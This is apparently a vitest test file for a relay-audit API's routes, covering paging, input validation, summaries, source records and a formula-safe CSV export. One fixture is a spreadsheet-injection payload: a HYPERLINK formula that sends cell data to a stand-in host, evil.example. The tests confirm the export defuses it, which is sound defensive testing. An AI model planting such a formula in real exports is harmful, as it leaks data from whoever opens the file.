/**
 * The query API's routes against the real embedded engine (dynalite in memory, the same
 * FindingsStore code the cloud runs): every route, every kind of bad parameter, paging, the CSV
 * export and its caps, error bodies and the per-request log line.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRequestHandler, type RequestHandler } from '../../functions/api/api.js';
import type { Summary } from '../../functions/api/contract.js';
import type { ApiDependencies } from '../../functions/api/dependencies.js';
import { type Finding, SCENARIO_IDS, type ScenarioId } from '../../functions/core/analysis/model/findings.js';
import type { SourceRecord } from '../../functions/core/analysis/model/source-record.js';
import { createLogger } from '../../functions/runtime/logger.js';
import { type EmbeddedStore, startEmbeddedStore } from '../../functions/store/embedded-engine.js';
import { FindingsStore } from '../../functions/store/findings-store.js';
import { rollupServerOf } from '../../functions/store/rollups.js';
import { call, csvRecords } from '../support/api-client.js';
import { captureJsonLines } from '../support/json-lines.js';
import { makeFinding } from '../support/make-finding.js';

type ErrorJson = { error: { code: string; message: string; requestId?: string } };
type PageJson<T> = { items: T[]; cursor?: string };

/** 120 findings, 36 minutes apart, from 2026-11-26T00:30Z to 2026-11-28T23:54Z (three whole days). */
const START = Date.parse('2026-11-26T00:30:00.000Z');
const FORMULA_SUBJECT = '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")';

function buildFindings(): Finding[] {
  return Array.from({ length: 120 }, (_, i) => {
    const scenario = SCENARIO_IDS[i % SCENARIO_IDS.length] as ScenarioId;
    const senderDomain = ['contoso.com', 'fabrikam.com', undefined][i % 3];
    return makeFinding({
      scenario,
      messageId: `api-${i}@contoso.com`,
      recipient: `user${i}@${i % 4 === 0 ? 'partner.example' : 'other.example'}`,
      timestamp: new Date(START + i * 36 * 60_000).toISOString(),
      senderDomain,
      serverHostname: i % 2 === 0 ? 'EX01.contoso.local' : 'EX02.contoso.local',
      ...(i === 6 ? { subject: FORMULA_SUBJECT, sender: '+31 20 555 0100@contoso.com' } : {}),
      source: { sourceId: i < 60 ? 'a'.repeat(32) : 'b'.repeat(32), line: i + 2 },
    });
  });
}

function sourceRecord(
  overrides: Partial<SourceRecord> & Pick<SourceRecord, 'id' | 'startedAt'>,
): SourceRecord {
  return {
    file: `incoming/2026-11-28/${overrides.id.slice(0, 4)}.LOG`,
    format: 'exchange-tracking-log',
    status: 'done',
    finishedAt: overrides.startedAt,
    bytes: 1000,
    rowsRead: 12,
    rowsAnalysed: 10,
    rowsSkipped: 2,
    events: 10,
    rejections: 4,
    skipped: [
      { line: 5, reason: 'COLUMN_COUNT', message: 'row has 3 columns, the header 20' },
      { line: 9, reason: 'BAD_TIMESTAMP', column: 'date-time', message: 'not a time: "yesterday"' },
    ],
    skippedTruncated: 0,
    skippedByReason: { COLUMN_COUNT: 1, BAD_TIMESTAMP: 1 },
    findingsByScenario: { ndr: 2 },
    ...overrides,
  };
}

const SOURCES: SourceRecord[] = [
  sourceRecord({ id: 'a'.repeat(32), startedAt: '2026-11-28T08:00:00.000Z' }),
  sourceRecord({ id: 'b'.repeat(32), startedAt: '2026-11-28T09:00:00.000Z' }),
  sourceRecord({
    id: 'c'.repeat(32),
    startedAt: '2026-11-28T10:00:00.000Z',
    status: 'failed',
    errorCode: 'UNKNOWN_FORMAT',
    errorMessage: 'incoming/x.csv: the header matches no supported format',
    rowsRead: 0,
    rowsAnalysed: 0,
    rowsSkipped: 0,
    skipped: [],
    skippedByReason: {},
    findingsByScenario: {},
  }),
];

const FINDINGS = buildFindings();
/** The reference: what a correct API returns, computed from the data itself. */
const newestFirst = (findings: Finding[]) =>
  [...findings].sort((a, b) => b.timestamp.localeCompare(a.timestamp)).map((f) => f.id);
const day = (f: Finding) => f.timestamp.slice(0, 10);

let engine: EmbeddedStore;
let handler: RequestHandler;

function handlerWith(overrides: Partial<ApiDependencies> = {}): RequestHandler {
  return createRequestHandler({ store: engine.store, logger: createLogger('test', 'silent'), ...overrides });
}

beforeAll(async () => {
  engine = await startEmbeddedStore({ inMemory: true, tableName: 'relay-audit-api-router' });
  await engine.store.putFindings(FINDINGS);
  for (const record of SOURCES) await engine.store.putSource(record);
  handler = createRequestHandler({
    store: engine.store,
    logger: createLogger('test', 'silent'),
    now: () => new Date('2026-11-28T12:00:00Z'),
  });
});

afterAll(async () => {
  await engine?.close();
});

async function expectInvalid(
  path: string,
  query: Record<string, string>,
  parameter: string,
): Promise<string> {
  const response = await call<ErrorJson>(handler, path, query);
  expect(response.status, JSON.stringify(query)).toBe(400);
  expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
  expect(response.json.error.code).toBe('INVALID_ARGUMENT');
  expect(response.json.error.message.startsWith(`${parameter}: `), response.json.error.message).toBe(true);
  return response.json.error.message;
}

describe('GET /findings', () => {
  it('returns the newest 50 findings with a cursor, as JSON that is never cached', async () => {
    // Act
    const response = await call<PageJson<Finding>>(handler, '/findings');
    // Assess
    expect(response.status).toBe(200);
    expect(response.headers).toMatchObject({
      'content-type': 'application/json; charset=utf-8',
      'cache-control': 'no-store',
    });
    expect(response.json.items.map((f) => f.id)).toEqual(newestFirst(FINDINGS).slice(0, 50));
    expect(response.json.cursor).toEqual(expect.any(String));
    expect(response.json.items[0]).toEqual(FINDINGS.at(-1));
  });

  it('pages through every match with the cursor, without loss or duplication', async () => {
    const seen: string[] = [];
    let cursor: string | undefined;
    let pages = 0;
    do {
      const response = await call<PageJson<Finding>>(handler, '/findings', {
        limit: '17',
        scenario: 'ndr',
        ...(cursor === undefined ? {} : { cursor }),
      });
      expect(response.status).toBe(200);
      expect(response.json.items.length).toBeLessThanOrEqual(17);
      seen.push(...response.json.items.map((f) => f.id));
      cursor = response.json.cursor;
      pages++;
    } while (cursor !== undefined);
    expect(seen).toEqual(newestFirst(FINDINGS.filter((f) => f.scenario === 'ndr')));
    expect(pages).toBe(2);
  });

  it.each([
    ['scenario', { scenario: 'forwarding' }, (f: Finding) => f.scenario === 'forwarding'],
    [
      'sender domain, any case',
      { senderDomain: 'Contoso.COM' },
      (f: Finding) => f.senderDomain === 'contoso.com',
    ],
    [
      'fully qualified sender domain',
      { senderDomain: 'fabrikam.com.' },
      (f: Finding) => f.senderDomain === 'fabrikam.com',
    ],
    [
      'recipient domain',
      { recipientDomain: 'partner.example' },
      (f: Finding) => f.recipientDomain === 'partner.example',
    ],
    [
      'two filters',
      { scenario: 'ndr', senderDomain: 'fabrikam.com' },
      (f: Finding) => f.scenario === 'ndr' && f.senderDomain === 'fabrikam.com',
    ],
    [
      'a whole day (bare dates)',
      { from: '2026-11-27', to: '2026-11-27' },
      (f: Finding) => day(f) === '2026-11-27',
    ],
    [
      'a time range with offsets',
      { from: '2026-11-27T01:00:00+01:00', to: '2026-11-27T12:00:00Z' },
      (f: Finding) => f.timestamp >= '2026-11-27T00:00:00.000Z' && f.timestamp <= '2026-11-27T12:00:00.000Z',
    ],
    [
      'a "+" offset that arrived as a space',
      { from: '2026-11-27T01:00:00 01:00', to: '2026-11-27T12:00:00Z' },
      (f: Finding) => f.timestamp >= '2026-11-27T00:00:00.000Z' && f.timestamp <= '2026-11-27T12:00:00.000Z',
    ],
  ])('filters by %s', async (_name, query, predicate) => {
    const response = await call<PageJson<Finding>>(handler, '/findings', { ...query, limit: '500' });
    expect(response.status).toBe(200);
    const expected = newestFirst(FINDINGS.filter(predicate));
    expect(expected.length).toBeGreaterThan(0);
    expect(response.json.items.map((f) => f.id)).toEqual(expected);
    expect(response.json.cursor).toBeUndefined();
  });

  it('treats an empty parameter as absent', async () => {
    const response = await call<PageJson<Finding>>(handler, '/findings', { scenario: '', limit: '' });
    expect(response.status).toBe(200);
    expect(response.json.items).toHaveLength(50);
  });

  it.each([
    [{ scenario: 'spam' }, 'scenario', /must be one of ndr, forwarding, .* \(got "spam"\)/],
    [{ senderDomain: 'not a domain' }, 'senderDomain', /domain name/],
    [{ recipientDomain: 'x@y.com' }, 'recipientDomain', /domain name/],
    [{ from: 'yesterday' }, 'from', /ISO date/],
    [{ to: '2026-02-30' }, 'to', /ISO date/],
    [{ from: '2026-11-28T10:00' }, 'from', /ISO date/],
    [{ from: '2026-11-28', to: '2026-11-27' }, 'from', /must not be after to \(2026-11-27\)/],
    [{ from: '2026-11-28T12:00:00Z', to: '2026-11-28T11:59:59Z' }, 'from', /must not be after to/],
    [{ limit: '0' }, 'limit', /from 1 to 500/],
    [{ limit: '501' }, 'limit', /from 1 to 500/],
    [{ limit: 'abc' }, 'limit', /from 1 to 500 \(got "abc"\)/],
    [{ limit: '1.5' }, 'limit', /from 1 to 500/],
    [{ limit: '-1' }, 'limit', /from 1 to 500/],
    [{ cursor: 'not a cursor!' }, 'cursor', /returned by the previous page/],
    [{ cursor: 'AAAA' }, 'cursor', /not a cursor returned by a previous page/],
    [{ scenarios: 'ndr' }, 'scenarios', /unknown parameter \(this route accepts scenario, /],
  ])('rejects %o with 400 naming %s', async (query, parameter, message) => {
    expect(await expectInvalid('/findings', query, parameter)).toMatch(message);
  });

  it('rejects a cursor issued for another query', async () => {
    const first = await call<PageJson<Finding>>(handler, '/findings', { scenario: 'ndr', limit: '5' });
    const cursor = first.json.cursor ?? '';
    const message = await expectInvalid(
      '/findings',
      { scenario: 'forwarding', limit: '5', cursor },
      'cursor',
    );
    expect(message).toMatch(/different query/);
  });

  it('never echoes a rejected cursor', async () => {
    const cursor = 'x'.repeat(9000);
    expect(await expectInvalid('/findings', { cursor }, 'cursor')).not.toContain('xxxx');
  });
});

describe('GET /findings/{id}', () => {
  it('returns the finding with its evidence and remediation', async () => {
    const finding = FINDINGS[6] as Finding;
    const response = await call<Finding>(handler, `/findings/${finding.id}`);
    expect(response.status).toBe(200);
    expect(response.json).toEqual(finding);
  });

  it('accepts an upper-case id', async () => {
    const finding = FINDINGS[3] as Finding;
    expect((await call(handler, `/findings/${finding.id.toUpperCase()}`)).json).toEqual(finding);
  });

  it('answers 404 as JSON for an unknown id', async () => {
    const response = await call<ErrorJson>(handler, `/findings/${'0'.repeat(32)}`);
    expect(response.status).toBe(404);
    expect(response.json).toEqual({
      error: { code: 'NOT_FOUND', message: `no finding with id ${'0'.repeat(32)}`, requestId: 'test' },
    });
  });

  it.each(['xyz', '0'.repeat(31), '0'.repeat(33), `${'0'.repeat(31)}g`, '%E0%A4%A'])(
    'rejects id %s with 400',
    async (id) => {
      const response = await call<ErrorJson>(handler, `/findings/${id}`);
      // A segment that is not valid URL encoding matches no route at all.
      if (id.startsWith('%')) expect(response.status).toBe(404);
      else expect(response.json.error.message).toMatch(/^id: must be 32 hexadecimal characters/);
    },
  );
});

describe('routes that take no query parameters', () => {
  it.each([`/findings/${'0'.repeat(32)}`, `/sources/${'a'.repeat(32)}`, '/readiness'])(
    'refuses one on %s with 400, as every route does',
    async (path) => {
      expect(await expectInvalid(path, { bogus: '1' }, 'bogus')).toMatch(
        /unknown parameter \(this route takes none\)/,
      );
    },
  );
});

describe('GET /summary', () => {
  let summary: Summary;

  beforeAll(async () => {
    const response = await call<Summary>(handler, '/summary', { from: '2026-11-25', to: '2026-11-28' });
    expect(response.status).toBe(200);
    summary = response.json;
  });

  it('counts findings per scenario for the range', () => {
    const expected = Object.fromEntries(
      SCENARIO_IDS.map((id) => [id, FINDINGS.filter((f) => f.scenario === id).length]),
    );
    expect(summary.totals).toEqual(expected);
    expect(summary.total).toBe(120);
  });

  it('counts every day per scenario, from the counters kept as the findings were written', () => {
    expect(summary.days.map((d) => d.date)).toEqual(['2026-11-25', '2026-11-26', '2026-11-27', '2026-11-28']);
    for (const entry of summary.days) {
      const onDay = FINDINGS.filter((f) => day(f) === entry.date);
      expect(entry.total, entry.date).toBe(onDay.length);
      for (const id of SCENARIO_IDS) {
        expect(entry.counts[id], `${entry.date} ${id}`).toBe(onDay.filter((f) => f.scenario === id).length);
      }
    }
  });

  it('ranks sender domains (an unknown one included) and servers', () => {
    expect(summary.topSenderDomains).toEqual([
      { senderDomain: '(unknown)', count: 40 },
      { senderDomain: 'contoso.com', count: 40 },
      { senderDomain: 'fabrikam.com', count: 40 },
    ]);
    const servers = new Map<string, number>();
    for (const f of FINDINGS) servers.set(rollupServerOf(f), (servers.get(rollupServerOf(f)) ?? 0) + 1);
    expect(new Map(summary.topServers.map((s) => [s.server, s.count]))).toEqual(servers);
  });

  it('defaults to the 30 days ending today (UTC)', async () => {
    const response = await call<Summary>(handler, '/summary');
    expect(response.json).toMatchObject({ from: '2026-10-30', to: '2026-11-28', total: 120 });
    expect(response.json.days).toHaveLength(30);
  });

  it.each([
    [{ from: '2026-11-28T00:00:00Z' }, 'from', /ISO date such as/],
    [{ to: 'today' }, 'to', /ISO date such as/],
    [{ from: '2026-11-28', to: '2026-11-01' }, 'from', /must not be after to/],
    [{ from: '2025-01-01', to: '2026-11-28' }, 'from', /spans 697 days; at most 366/],
    [{ from: '2026-12-01' }, 'from', /must not be after to \(2026-11-28\)/],
    [{ scenario: 'ndr' }, 'scenario', /unknown parameter/],
  ])('rejects %o with 400 naming %s', async (query, parameter, message) => {
    expect(await expectInvalid('/summary', query, parameter)).toMatch(message);
  });
});

describe('GET /sources and /sources/{id}', () => {
  it('lists source records newest first, without the skipped rows themselves', async () => {
    const response = await call<PageJson<SourceRecord>>(handler, '/sources');
    expect(response.status).toBe(200);
    expect(response.json.items.map((s) => s.id)).toEqual(['c', 'b', 'a'].map((c) => c.repeat(32)));
    expect(response.json.items[1]).toEqual(
      expect.objectContaining({ rowsSkipped: 2, skippedByReason: { COLUMN_COUNT: 1, BAD_TIMESTAMP: 1 } }),
    );
    expect(response.json.items[1]).not.toHaveProperty('skipped');
    expect(response.json.cursor).toBeUndefined();
  });

  it('pages with a cursor', async () => {
    const first = await call<PageJson<SourceRecord>>(handler, '/sources', { limit: '2' });
    const second = await call<PageJson<SourceRecord>>(handler, '/sources', {
      limit: '2',
      cursor: first.json.cursor ?? '',
    });
    expect([...first.json.items, ...second.json.items].map((s) => s.id[0])).toEqual(['c', 'b', 'a']);
    expect(second.json.cursor).toBeUndefined();
  });

  it('returns one record with its skipped rows and reasons', async () => {
    const response = await call<SourceRecord>(handler, `/sources/${'a'.repeat(32)}`);
    expect(response.json).toEqual(SOURCES[0]);
  });

  it('shows a failed upload with its error code and reason', async () => {
    const response = await call<SourceRecord>(handler, `/sources/${'c'.repeat(32)}`);
    expect(response.json).toMatchObject({ status: 'failed', errorCode: 'UNKNOWN_FORMAT' });
  });

  it('answers 404 for an unknown source and 400 for a malformed id', async () => {
    expect((await call<ErrorJson>(handler, `/sources/${'d'.repeat(32)}`)).json.error.code).toBe('NOT_FOUND');
    expect(await expectInvalid('/sources/not-an-id', {}, 'id')).toMatch(/32 hexadecimal/);
  });

  it.each([
    [{ limit: '0' }, 'limit'],
    [{ limit: '1000' }, 'limit'],
    [{ cursor: '***' }, 'cursor'],
    [{ cursor: 'AAAA' }, 'cursor'],
    [{ from: '2026-11-28' }, 'from'],
  ])('rejects %o with 400 naming %s', async (query, parameter) => {
    await expectInvalid('/sources', query, parameter);
  });
});

describe('GET /findings.csv', () => {
  it('exports every finding of the filter, newest first, formula-safe, and says it is complete', async () => {
    // Act
    const response = await call(handler, '/findings.csv', { senderDomain: 'contoso.com' });
    // Assess
    expect(response.status).toBe(200);
    expect(response.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="relay-audit-findings.csv"',
      'cache-control': 'no-store',
      'x-truncated': 'false',
      'x-row-count': '40',
    });
    expect(response.body.startsWith('\uFEFFid,timestamp,scenario,')).toBe(true);
    const records = csvRecords(response.body);
    expect(records.map((r) => r.id)).toEqual(
      newestFirst(FINDINGS.filter((f) => f.senderDomain === 'contoso.com')),
    );
    const injected = records.find((r) => r.id === FINDINGS[6]?.id);
    expect(injected?.subject).toBe(`'${FORMULA_SUBJECT}`);
    expect(injected?.sender).toBe("'+31 20 555 0100@contoso.com");
    expect(injected).toMatchObject({ scenario: FINDINGS[6]?.scenario, sourceLine: '8' });
  });

  it('names the file after the scenario and applies the same filters as /findings', async () => {
    const response = await call(handler, '/findings.csv', { scenario: 'ndr', from: '2026-11-27' });
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="relay-audit-findings-ndr.csv"',
    );
    expect(csvRecords(response.body).map((r) => r.id)).toEqual(
      newestFirst(FINDINGS.filter((f) => f.scenario === 'ndr' && day(f) >= '2026-11-27')),
    );
  });

  it('stops at the row cap and says so', async () => {
    const capped = handlerWith({ exportLimits: { maxRows: 30 } });
    const response = await call(capped, '/findings.csv');
    expect(response.headers).toMatchObject({
      'x-truncated': 'true',
      'x-truncated-reason': 'row-limit',
      'x-row-count': '30',
    });
    expect(csvRecords(response.body).map((r) => r.id)).toEqual(newestFirst(FINDINGS).slice(0, 30));
  });

  it('is complete, not truncated, when the matches fill the row cap exactly', async () => {
    const capped = handlerWith({ exportLimits: { maxRows: 24 } });
    const response = await call(capped, '/findings.csv', { scenario: 'ndr' });
    expect(response.headers).toMatchObject({ 'x-truncated': 'false', 'x-row-count': '24' });
  });

  it('stops at the size cap and says so', async () => {
    const capped = handlerWith({ exportLimits: { maxBytes: 4000 } });
    const response = await call(capped, '/findings.csv');
    expect(response.headers).toMatchObject({ 'x-truncated': 'true', 'x-truncated-reason': 'size-limit' });
    const rows = csvRecords(response.body);
    expect(rows.length).toBe(Number(response.headers['x-row-count']));
    expect(rows.length).toBeGreaterThan(0);
    expect(Buffer.byteLength(response.body)).toBeLessThanOrEqual(4000);
  });

  it.each([
    [{ scenario: 'x' }, 'scenario'],
    [{ from: '2026-11-28', to: '2026-11-01' }, 'from'],
    [{ limit: '10' }, 'limit'],
    [{ cursor: 'abc' }, 'cursor'],
  ])('rejects %o with 400 naming %s', async (query, parameter) => {
    await expectInvalid('/findings.csv', query, parameter);
  });
});

describe('routing and failures', () => {
  it('answers 404 for an unknown path and accepts a trailing slash', async () => {
    const response = await call<ErrorJson>(handler, '/finding');
    expect(response.status).toBe(404);
    expect(response.json.error).toMatchObject({ code: 'NOT_FOUND', message: 'no route /finding' });
    expect((await call(handler, '/sources/')).status).toBe(200);
    expect((await call(handler, '/findings/a/b')).status).toBe(404);
  });

  it('answers 405 with Allow for another method', async () => {
    const response = await call<ErrorJson>(handler, '/findings', {}, 'DELETE');
    expect(response.status).toBe(405);
    expect(response.headers.allow).toBe('GET');
    expect(response.json.error.code).toBe('METHOD_NOT_ALLOWED');
  });

  it('answers 503 with a stable code and no internals when the store fails', async () => {
    // Prepare: the same engine, but a table that does not exist.
    const missing = new FindingsStore({ client: engine.client, tableName: 'no-such-table' });
    const failing = createRequestHandler({ store: missing, logger: createLogger('test', 'info') });
    // Act
    const { result: response, lines } = await captureJsonLines(() => call<ErrorJson>(failing, '/findings'));
    // Assess
    expect(response.status).toBe(503);
    expect(response.json).toEqual({
      error: {
        code: 'STORE_FAILURE',
        message: 'the findings store is unavailable; try again shortly',
        requestId: 'test',
      },
    });
    expect(response.body).not.toMatch(/no-such-table|ResourceNotFound|at .*\.ts/);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatchObject({ level: 'ERROR', status: 503, route: '/findings' });
    expect(JSON.stringify(lines[0])).toContain('ResourceNotFoundException');
  });

  it('logs one structured line per request: method, route, status and duration', async () => {
    const logged = createRequestHandler({ store: engine.store, logger: createLogger('test', 'info') });
    const { lines } = await captureJsonLines(async () => {
      await call(logged, `/findings/${FINDINGS[0]?.id}`);
      await call(logged, '/findings', { limit: '0' });
      await call(logged, '/nowhere');
    });
    expect(lines).toEqual([
      expect.objectContaining({
        level: 'INFO',
        method: 'GET',
        route: '/findings/{id}',
        status: 200,
        ms: expect.any(Number),
      }),
      expect.objectContaining({ route: '/findings', status: 400, code: 'INVALID_ARGUMENT' }),
      expect.objectContaining({ path: '/nowhere', status: 404 }),
    ]);
    // No route matched: Powertools leaves out keys whose value is null.
    expect(lines[2]).not.toHaveProperty('route');
  });
});
